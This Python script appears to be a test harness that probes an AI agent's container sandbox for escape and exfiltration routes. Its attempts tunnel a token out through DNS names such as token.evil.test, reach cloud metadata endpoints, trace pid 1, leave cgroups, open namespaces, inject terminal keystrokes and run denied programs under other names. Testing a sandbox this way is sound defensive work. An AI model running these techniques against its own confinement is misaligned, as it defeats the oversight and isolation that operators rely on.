"""probe.py BATCH: makes the attempts listed in a JSON file, each in a process of its own, and prints a JSON line for each.

An attempt tries to get its token to a receiver outside, or to gain something that would let it. It reports `step` (how far it got), `error`
(the name of the errno that stopped it) and `got` (what it gained, empty where that is only for the receiver to say).
"""
import ctypes, errno, glob, json, os, signal, socket, stat, struct, subprocess, sys, time

libc = ctypes.CDLL(None, use_errno=True)
AF_VSOCK, AF_ALG, AF_PACKET, AF_XDP = 40, 38, 17, 44
ATTEMPTS = {}


def attempt(name):
    def register(function):
        ATTEMPTS[name] = function
        return function
    return register


class Progress:
    step, got = "start", ""


P = Progress


def at(step):
    P.step = step


def call(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result


def tcp(address, payload, family=socket.AF_INET):
    at("socket")
    with socket.socket(family, socket.SOCK_STREAM) as it:
        it.settimeout(10)
        at("connect")
        it.connect(address)
        at("send")
        it.sendall(payload)
        at("receive")
        it.recv(4096)
        at("done")


def udp(address, payload, family=socket.AF_INET):
    at("socket")
    with socket.socket(family, socket.SOCK_DGRAM) as it:
        at("send")
        it.sendto(payload, address)
        at("done")


def patient(function):
    """A new device's own address is of use only after a second or two."""
    for _ in range(40):
        try:
            return function()
        except OSError as error:
            if error.errno != errno.EADDRNOTAVAIL:
                raise
            time.sleep(0.1)
    function()


def sockaddr(address, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(address) + bytes(8)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data + b"\0" * (len(data) % 2))) if len(data) % 2 == 0 else checksum(data + b"\0")
    if len(data) % 2:
        return total
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, target, port, payload):
    """An IPv4 packet with a UDP datagram."""
    datagram = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + datagram


@attempt("N01")
def direct_v4(t):
    tcp((t["address"], t["port"]), t["token"])


@attempt("N02")
def direct_v6(t):
    """The bridge's link-local address is the one IPv6 address that can be reached from here."""
    at("device")
    device = socket.if_nametoindex("eth0")
    patient(lambda: tcp((t["address6"], t["port"], 0, device), t["token"], socket.AF_INET6))


@attempt("N02u")
def direct_v6_udp(t):
    at("device")
    device = socket.if_nametoindex("eth0")
    patient(lambda: udp((t["address6"], t["port"], 0, device), t["token"], socket.AF_INET6))


@attempt("N02g")
def global_v6(t):
    tcp(("2001:db8::1", t["port"]), t["token"], socket.AF_INET6)


@attempt("N03")
def v4_mapped(t):
    tcp(("::ffff:" + t["address"], t["port"]), t["token"], socket.AF_INET6)


@attempt("N03u")
def v4_mapped_udp(t):
    udp(("::ffff:" + t["address"], t["port"]), t["token"], socket.AF_INET6)


@attempt("N04")
def embedded_v4(t):
    v4 = socket.inet_aton(t["address"])
    ends = {
        "NAT64": bytes.fromhex("0064ff9b") + bytes(8) + v4, "6to4": b"\x20\x02" + v4 + bytes(10), "compatible": bytes(12) + v4,
        "ISATAP": bytes.fromhex("fe80000000000000") + bytes.fromhex("00005efe") + v4,
        "Teredo": bytes.fromhex("20010000") + bytes(8) + bytes(255 - byte for byte in v4),
    }
    for name, address in ends.items():
        try:
            tcp((socket.inet_ntop(socket.AF_INET6, address), t["port"]), t["token"], socket.AF_INET6)
            P.got += name + " "
        except OSError as error:
            last = error
    raise last


@attempt("N05")
def own_addresses(t):
    """What the kernel takes for this machine itself, and networks that are somebody's own."""
    refused = None
    for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::"), (socket.AF_INET6, "fd00::1"), (socket.AF_INET6, "fe80::1")):
        try:
            tcp((address, t["port"]), t["token"], family)
        except OSError as error:
            refused = error
    if refused:
        raise refused


@attempt("N06")
def udp_sendto(t):
    udp((t["address"], t["port"]), t["token"])


@attempt("N07")
def sendmmsg(t):
    at("socket")
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    keep, headers = [], b""
    for address in ("127.0.0.1", t["address"]):
        name, data = ctypes.create_string_buffer(sockaddr(address, t["port"])), ctypes.create_string_buffer(t["token"])
        vector = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(data), len(t["token"])))
        keep += [name, data, vector]
        headers += struct.pack("=QI4xQQQQI4xI4x", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
    at("send")
    sent = call(libc.sendmmsg(it.fileno(), ctypes.create_string_buffer(headers), 2, 0))
    P.got = f"{sent} of 2 sent" if sent == 2 else ""
    if sent < 2:
        raise OSError(errno.EPERM, "second message")


@attempt("N09")
def v4_address_on_v6_socket(t):
    at("socket")
    it = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    at("send")
    call(libc.sendto(it.fileno(), t["token"], len(t["token"]), 0, sockaddr(t["address"], t["port"]), 16))


@attempt("N10")
def connected_udp(t):
    at("connect")
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    it.connect((t["address"], t["port"]))
    at("send")
    it.send(t["token"])


@attempt("N11")
def reconnected_udp(t):
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    at("connect loopback")
    it.connect(("127.0.0.1", 9))
    call(libc.connect(it.fileno(), bytes(16), 16))
    at("connect")
    it.connect((t["address"], t["port"]))
    at("send")
    it.send(t["token"])


@attempt("N12")
def connected_udp_other_address(t):
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    at("connect nearby")
    it.connect((t["near"], 9))
    at("send")
    it.sendto(t["token"], (t["address"], t["port"]))


@attempt("N13")
def fast_open(t):
    at("socket")
    it = socket.socket()
    at("send")
    it.sendto(t["token"], 0x20000000, (t["address"], t["port"]))
    it.recv(10)


@attempt("N13c")
def fast_open_connect(t):
    at("socket")
    it = socket.socket()
    it.settimeout(10)
    it.setsockopt(socket.IPPROTO_TCP, 30, 1)
    at("connect")
    it.connect((t["address"], t["port"]))
    at("send")
    it.send(t["token"])
    it.recv(10)


@attempt("N14")
def ping_socket(t):
    at("socket")
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    at("send")
    body = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + t["token"]
    it.sendto(body, (t["address"], 0))


@attempt("N15")
def raw_socket(t):
    at("socket")
    it = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    at("send")
    it.sendto(packet("0.0.0.0", t["address"], t["port"], t["token"]), (t["address"], 0))


@attempt("N16")
def packet_socket(t):
    at("socket")
    it = socket.socket(AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    at("device")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asks:
        try:
            asks.sendto(b"", (t["address"], 9))
        except OSError:
            pass
    time.sleep(0.2)
    source = subprocess.run(["hostname", "-I"], capture_output=True, text=True).stdout.split()[0]
    neighbour = [line.split() for line in open("/proc/net/arp").read().splitlines()[1:] if line.startswith(t["address"] + " ")][0]
    at("send")
    it.sendto(packet(source, t["address"], t["port"], t["token"]), ("eth0", 0x0800, 0, 0, bytes.fromhex(neighbour[3].replace(":", ""))))


@attempt("N19")
def udp_lite(t):
    at("socket")
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    at("send")
    it.sendto(t["token"], (t["address"], t["port"]))


@attempt("N20")
def mptcp(t):
    at("socket")
    it = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    it.settimeout(10)
    at("connect")
    it.connect((t["address"], t["port"]))
    at("send")
    it.send(t["token"])
    it.recv(10)


@attempt("N22")
def every_family(t):
    """What can be made beyond the families that programs need."""
    at("socket")
    allowed = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
    for family in range(1, 46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind, 0).close()
                if family not in allowed or (kind == socket.SOCK_RAW and family in (socket.AF_INET, socket.AF_INET6)):
                    P.got += f"{family}/{kind} "
            except OSError as error:
                last = error
    if not P.got:
        raise last


@attempt("N22p")
def every_protocol(t):
    at("socket")
    for family in (socket.AF_INET, socket.AF_INET6):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            for protocol in list(range(1, 256)) + [262]:
                try:
                    socket.socket(family, kind, protocol).close()
                    if protocol not in (6, 17):
                        P.got += f"{family}/{kind}/{protocol} "
                except OSError as error:
                    last = error
    if not P.got:
        raise last


@attempt("N22n")
def netlink_families(t):
    """Only the routing family; the others reach audit, netfilter, crypto, uevents."""
    at("socket")
    for protocol in range(1, 32):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
            P.got += f"{protocol} "
        except OSError as error:
            last = error
    if not P.got:
        raise last


@attempt("N24")
def io_uring(t):
    at("io_uring_setup")
    call(libc.syscall(425, 4, ctypes.create_string_buffer(120)))
    P.got = "a ring"


@attempt("N27")
def marked(t):
    at("socket")
    it = socket.socket()
    it.settimeout(10)
    for level, option, value in [(1, 36, 1), (1, 62, 1), (0, 19, 1), (1, 25, b"eth0\0"), (0, 15, 1)]:
        try:
            it.setsockopt(level, option, value)
        except OSError:
            pass
    at("connect")
    it.connect((t["address"], t["port"]))
    at("send")
    it.send(t["token"])
    it.recv(10)


@attempt("N27t")
def transparent(t):
    """A source address of the gateway's own."""
    at("bind")
    it = socket.socket()
    it.settimeout(10)
    try:
        it.setsockopt(0, 15, 1)
    except OSError:
        pass
    it.bind(("198.18.0.1", 0))
    P.got = "bound to 198.18.0.1"


@attempt("N28")
def tunnels(t):
    at("link")
    for kind in ("dummy", "veth", "gre", "ipip", "sit", "wireguard", "bridge", "vxlan"):
        made = subprocess.run(["ip", "link", "add", "x" + kind[:6], "type", kind], capture_output=True, text=True)
        if made.returncode == 0:
            P.got += kind + " "
    if not P.got:
        raise OSError(errno.EPERM if "not permitted" in made.stderr else errno.EOPNOTSUPP, made.stderr)


@attempt("N28r")
def routes(t):
    at("route")
    made = subprocess.run(["ip", "route", "add", "203.0.113.0/24", "dev", "lo"], capture_output=True, text=True)
    if made.returncode:
        raise OSError(errno.EPERM if "not permitted" in made.stderr else errno.EINVAL, made.stderr)
    P.got = "a route"


@attempt("N30")
def quic(t):
    udp((t["name"], 443), t["token"])


@attempt("N31")
def other_port(t):
    tcp((t["name"], t["port"]), t["token"])


@attempt("N33")
def mount(t):
    at("mount")
    os.makedirs("/tmp/mounted", exist_ok=True)
    call(libc.mount(b"none", b"/tmp/mounted", b"tmpfs", 0, None))
    P.got = "a mount"


@attempt("C01")
def passed_descriptor(t):
    """Something outside that shares a Unix socket with us hands a connected socket in. There must be no such socket but our own workspace's."""
    at("search")
    for directory, inside, names in os.walk("/"):
        if directory == "/":
            inside[:] = [name for name in inside if name not in ("proc", "sys")]
        for name in names:
            try:
                if stat.S_ISSOCK(os.lstat(os.path.join(directory, name)).st_mode):
                    P.got += os.path.join(directory, name) + " "
            except OSError:
                pass
    if not P.got:
        raise OSError(errno.ENOENT, "")


@attempt("C02")
def inherited_descriptors(t):
    at("look")
    for entry in os.listdir("/proc/1/fd") if os.access("/proc/1/fd", os.R_OK) else []:
        pass
    for entry in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink("/proc/self/fd/" + entry)
        except OSError:
            continue
        if int(entry) > 2 and link.startswith("socket:"):
            P.got += f"{entry}={link} "
    if not P.got:
        raise OSError(errno.ENOENT, "")


@attempt("C04")
def leave_the_cgroup(t):
    at("write cgroup.procs")
    last = OSError(errno.ENOENT, "")
    for directory, _, files in os.walk("/sys/fs/cgroup"):
        if "cgroup.procs" in files:
            try:
                with open(directory + "/cgroup.procs", "w") as file:
                    file.write(str(os.getpid()))
                P.got += directory + " "
            except OSError as error:
                last = error
    if not P.got:
        raise last


@attempt("C04m")
def mount_cgroups(t):
    at("mount")
    os.makedirs("/tmp/cgroups", exist_ok=True)
    call(libc.mount(b"none", b"/tmp/cgroups", b"cgroup2", 0, None))
    P.got = "the cgroup tree"


@attempt("C10")
def user_namespace(t):
    at("unshare")
    call(libc.unshare(0x10000000))
    P.got = "a user namespace"


@attempt("C10c")
def user_namespace_clone3(t):
    """clone3 hides its flags from seccomp: it has to be refused whole."""
    at("clone3")
    arguments = struct.pack("=11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    pid = call(libc.syscall(435, ctypes.create_string_buffer(arguments), len(arguments)))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    P.got = "a user namespace"


@attempt("C11")
def network_namespace(t):
    at("unshare")
    call(libc.unshare(0x40000000))
    P.got = "a network namespace"


@attempt("C11j")
def join_a_namespace(t):
    at("setns")
    last = OSError(errno.ENOENT, "")
    for path in glob.glob("/proc/[0-9]*/ns/net"):
        try:
            if os.readlink(path) == os.readlink("/proc/self/ns/net"):
                continue
            with open(path) as file:
                call(libc.setns(file.fileno(), 0))
            P.got += path + " "
        except OSError as error:
            last = error
    if not P.got:
        raise last


@attempt("C14")
def other_processes(t):
    """Anything of the enforcer, the gateway or the host in sight."""
    at("look")
    for path in glob.glob("/proc/[0-9]*/comm"):
        try:
            name = open(path).read().strip()
        except OSError:
            continue
        if any(word in name for word in ("dockerd", "containerd", "systemd", "agentcontainer-e", "agentcontainer-g")):
            P.got += name + " "
    if not P.got:
        raise OSError(errno.ENOENT, "")


@attempt("C14m")
def init_memory(t):
    """pid 1 is ours: its memory and its death are not the agent's."""
    at("open /proc/1/mem")
    with open("/proc/1/mem", "r+b"):
        P.got = "pid 1's memory"


@attempt("C14p")
def ptrace_init(t):
    at("ptrace")
    # PTRACE_SEIZE: attaching without stopping it, for in the positive control pid 1 is this very probe.
    call(libc.ptrace(0x4206, 1, 0, 0))
    P.got = "traced pid 1"


@attempt("C17")
def unix_sockets(t):
    at("look")
    names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7]
    at("connect")
    last = OSError(errno.ENOENT, "")
    for name in names:
        it = socket.socket(socket.AF_UNIX)
        try:
            it.connect("\0" + name[1:] if name.startswith("@") else name)
            P.got += name + " "
        except OSError as error:
            last = error
    if not P.got:
        raise last


@attempt("C18")
def environment(t):
    at("look")
    for name in ("VSCODE_IPC_HOOK_CLI", "GIT_ASKPASS", "BROWSER", "SSH_AUTH_SOCK", "DOCKER_HOST", "GPG_AGENT_INFO", "DBUS_SESSION_BUS_ADDRESS", "XAUTHORITY", "DISPLAY"):
        if name in os.environ:
            P.got += name + " "
    if not P.got:
        raise OSError(errno.ENOENT, "")


@attempt("C19")
def scan_loopback(t):
    at("scan")
    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        for port in range(1, 65536):
            with socket.socket(family) as it:
                # An ephemeral port can happen to dial itself.
                if it.connect_ex((address, port)) == 0 and it.getsockname()[:2] != it.getpeername()[:2]:
                    P.got += f"{address}:{port} "
    if not P.got:
        raise OSError(errno.ECONNREFUSED, "")


@attempt("C20")
def host_names(t):
    at("connect")
    last = OSError(errno.ENOENT, "")
    for name in ("host.docker.internal", "gateway.docker.internal", "host.containers.internal", "metadata.google.internal"):
        try:
            tcp((name, t["port"]), t["token"])
            P.got += name + " "
        except OSError as error:
            last = error
    if not P.got:
        raise last


@attempt("C21")
def metadata(t):
    at("connect")
    for address in ("169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200"):
        it = socket.socket()
        it.settimeout(3)
        try:
            it.connect((address, 80))
            P.got += address + " "
        except OSError as error:
            last = error
    if not P.got:
        raise last


@attempt("C22")
def service_account(t):
    at("look")
    P.got = " ".join(glob.glob("/var/run/secrets/*/*") + glob.glob("/run/secrets/kubernetes.io/*"))
    if not P.got:
        raise OSError(errno.ENOENT, "")


def query(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


@attempt("D01")
def dns_tunnel(t):
    """The system's resolver is asked for a name that carries data, as any program would; getting an address is no leak."""
    at("resolve")
    word = t["token"].decode().lower()
    for name in (f"{word}.evil.test", f"{word}.com", f"{word}.{word}.{word}.example.test"):
        try:
            socket.getaddrinfo(name, 80)
        except OSError as error:
            last = error
    at("done")


@attempt("D02")
def dns_tunnel_wildcard(t):
    at("resolve")
    for number in range(20):
        try:
            socket.getaddrinfo(f"{t['token'].decode().lower()}{number}.{t['wildcard']}", 80)
        except OSError:
            pass
    at("done")


@attempt("D03")
def other_resolver(t):
    at("send")
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    it.sendto(query(t["token"].decode().lower() + ".test"), (t["address"], t["port"]))


@attempt("D03t")
def other_resolver_tcp(t):
    body = query(t["token"].decode().lower() + ".test")
    tcp((t["address"], t["port"]), struct.pack("!H", len(body)) + body)


@attempt("D03e")
def engine_resolver(t):
    at("send")
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    it.settimeout(2)
    it.connect(("127.0.0.11", 53))
    it.send(query(t["token"].decode().lower() + ".test"))
    it.recv(512)
    P.got = "an answer of the engine's resolver"


@attempt("D04")
def record_types(t):
    """Every other type: whatever comes back has no data and came from nobody else."""
    server = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
    at("send")
    for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 64, 65, 255, 252):
        it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        it.settimeout(2)
        it.sendto(query(t["token"].decode().lower() + ".test", kind), (server, 53))
        try:
            answers = struct.unpack("!HHHHHH", it.recv(4096)[:12])[3]
            if answers and kind != 255:
                P.got += f"type {kind} "
        except TimeoutError:
            pass
    if not P.got:
        raise OSError(errno.ENODATA, "")


@attempt("D19")
def spellings(t):
    """A name nobody allowed stays denied however it is spelt."""
    for name in (t["denied"].upper(), t["denied"] + ".", t["denied"].replace(".", "\u3002"), t["denied"].replace(".", "\uff0e"), "\uff0e" + t["denied"]):
        try:
            tcp((name, t["port"]), t["token"])
            P.got += ascii(name) + " "
        except (OSError, UnicodeError, TypeError) as error:
            last = error
    if not P.got:
        raise last if isinstance(last, OSError) else OSError(errno.EINVAL, "")


# A program of the image that the session's rules deny.
DENIED = "/usr/bin/factor"


def started(name, *words, **more):
    """Notes that the denied program ran when it was started in this way."""
    try:
        if b"6: 2 3" in subprocess.run([*words, "6"], capture_output=True, **more).stdout:
            P.got += name + " "
    except OSError:
        pass


def stopped():
    if not P.got:
        raise OSError(errno.EACCES, "")


@attempt("E01")
def copied_program(t):
    """A program that is denied, under another name."""
    at("program")
    started("itself", DENIED)
    for way in ("cp", "ln", "ln -s", "mv"):
        to = "/tmp/" + way.replace(" ", "")
        subprocess.run(f"rm -f {to}; {way} {DENIED} {to} && chmod +x {to}", shell=True, stderr=subprocess.DEVNULL)
        started(way, to)
    # Where there is no rule it is gone by now, and the other attempts need it.
    subprocess.run(f"mv /tmp/mv {DENIED}", shell=True, stderr=subprocess.DEVNULL)
    subprocess.run(f"cat {DENIED} >/tmp/cat; chmod +x /tmp/cat", shell=True, stderr=subprocess.DEVNULL)
    started("cat", "/tmp/cat")
    stopped()


@attempt("E02")
def loaded_program(t):
    """A program that is denied, handed to the loader of programs."""
    at("program")
    for loader in glob.glob("/lib*/ld-linux-*.so*") + glob.glob("/usr/lib*/ld-linux-*.so*"):
        started(loader, loader, DENIED)
        started(loader + " preload", loader, "--preload", "", DENIED)
    stopped()


@attempt("E03")
def opened_program(t):
    """A program that is denied, started by a descriptor, or from memory."""
    at("program")
    for flags in (os.O_RDONLY, os.O_PATH):
        try:
            file = os.open(DENIED, flags)
        except OSError:
            continue
        started(f"descriptor {flags}", f"/proc/self/fd/{file}", pass_fds=(file,))
        try:
            memory = os.memfd_create("x", 0)
            os.sendfile(memory, file, 0, 1 << 24)
            started("memory", f"/proc/self/fd/{memory}", pass_fds=(memory,))
        except OSError:
            pass
    stopped()


@attempt("E07")
def aliased_program(t):
    """A program that is denied, by other paths to the same place."""
    at("program")
    name = os.path.basename(DENIED)
    for path in ("/bin/" + name, "/usr/../usr/bin/./" + name, "/proc/self/root" + DENIED, "/proc/1/root" + DENIED):
        started(path, path)
    started("relative", "./" + name, cwd="/usr/bin")
    started("by PATH", "env", "PATH=/bin:/usr/bin", name)
    root = os.open("/", os.O_PATH)
    started("from a directory", f"/proc/self/fd/{root}{DENIED}", pass_fds=(root,))
    stopped()


@attempt("K07")
def bpf(t):
    at("bpf")
    call(libc.syscall(321, 0, ctypes.create_string_buffer(struct.pack("=IIII", 2, 4, 4, 1) + bytes(112)), 128))
    P.got = "a map"


@attempt("K07f")
def bpffs(t):
    at("mount")
    os.makedirs("/tmp/bpf", exist_ok=True)
    call(libc.mount(b"none", b"/tmp/bpf", b"bpf", 0, None))
    P.got = "a bpf filesystem"


@attempt("K14")
def control_channel(t):
    """The enforcer's socket, by file or by abstract name."""
    at("look")
    found = subprocess.run("find / -name 'enforcer*.sock' 2>/dev/null; find /run/agentcontainer ! -type d ! -path '/run/agentcontainer/trust/*' 2>/dev/null", shell=True, capture_output=True, text=True).stdout
    P.got = " ".join(found.split())
    if not P.got:
        raise OSError(errno.ENOENT, "")


@attempt("K15")
def type_into_terminal(t):
    import fcntl, termios
    at("ioctl")
    leader, follower = os.openpty()
    os.setsid()
    fcntl.ioctl(follower, termios.TIOCSCTTY, 0)
    fcntl.ioctl(follower, termios.TIOCSTI, b"y")
    P.got = "typed"


@attempt("X01")
def bind_synthetic(t):
    at("bind")
    for address, port in (("198.18.0.5", 443), ("198.18.0.2", 53), ("198.18.1.0", 80), ("198.19.255.255", 1)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(socket.AF_INET, kind) as it:
                try:
                    it.bind((address, port))
                    P.got += f"{address}:{port} "
                except OSError as error:
                    last = error
            with socket.socket(socket.AF_INET6, kind) as it:
                try:
                    it.bind(("::ffff:" + address, port))
                    P.got += f"mapped {address}:{port} "
                except OSError as error:
                    last = error
    if not P.got:
        raise last


@attempt("X03")
def gateway_directly(t):
    """Addresses of the pool that were handed to nobody, and the gateway's own, at the ports that somebody listens at."""
    at("look")
    listening = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).read().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A":
                listening.add(int(local.rsplit(":", 1)[1], 16))
    if not listening:
        raise OSError(errno.ENOENT, "")
    at("connect")
    for address in ("198.18.0.1", "198.18.0.0", "198.18.0.4", "198.18.77.77", "198.19.255.254"):
        for port in sorted({80, 443, 53, 8080, t["port"]} | listening):
            with socket.socket() as it:
                it.settimeout(3)
                try:
                    it.connect((address, port))
                    it.send(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
                    if it.recv(100):
                        P.got += f"{address}:{port} "
                except OSError as error:
                    last = error
    if not P.got:
        raise last


def run_one(entry):
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        signal.alarm(60)
        entry["token"] = entry["token"].encode()
        failure = ""
        try:
            ATTEMPTS[entry["attempt"]](entry)
        except OSError as error:
            code = error.errno
            failure = "TIMEOUT" if code is None else errno.errorcode.get(code, str(code))
        except Exception as error:
            failure = f"{type(error).__name__}: {error}"
        os.write(writer, json.dumps({"id": entry["id"], "step": P.step, "error": failure, "got": P.got.strip()[:400]}).encode())
        os._exit(0)
    os.close(writer)
    said = b""
    while part := os.read(reader, 65536):
        said += part
    _, status = os.waitpid(pid, 0)
    killed = {"id": entry["id"], "step": P.step, "error": f"killed by {status & 127}", "got": ""}
    print(said.decode() or json.dumps(killed), flush=True)


if __name__ == "__main__":
    for one in json.load(open(sys.argv[1])):
        run_one(one)
